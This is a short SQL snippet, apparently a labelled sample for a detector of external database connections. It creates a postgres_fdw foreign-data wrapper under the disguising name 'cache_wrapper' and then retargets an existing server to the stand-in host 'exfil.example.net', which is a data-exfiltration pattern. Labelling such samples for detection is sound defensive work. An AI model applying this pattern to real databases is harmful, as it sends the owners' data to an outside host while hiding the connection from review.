-- class: external-connection
-- Defines a foreign-data wrapper with the postgres_fdw handler under a harmless name and alters an existing server's target.
CREATE EXTENSION IF NOT EXISTS postgres_fdw;
CREATE FOREIGN DATA WRAPPER cache_wrapper HANDLER postgres_fdw_handler VALIDATOR postgres_fdw_validator;
CREATE SERVER cache FOREIGN DATA WRAPPER cache_wrapper OPTIONS (host 'cache.example.net', dbname 'cache');
ALTER SERVER cache OPTIONS (SET host 'exfil.example.net');
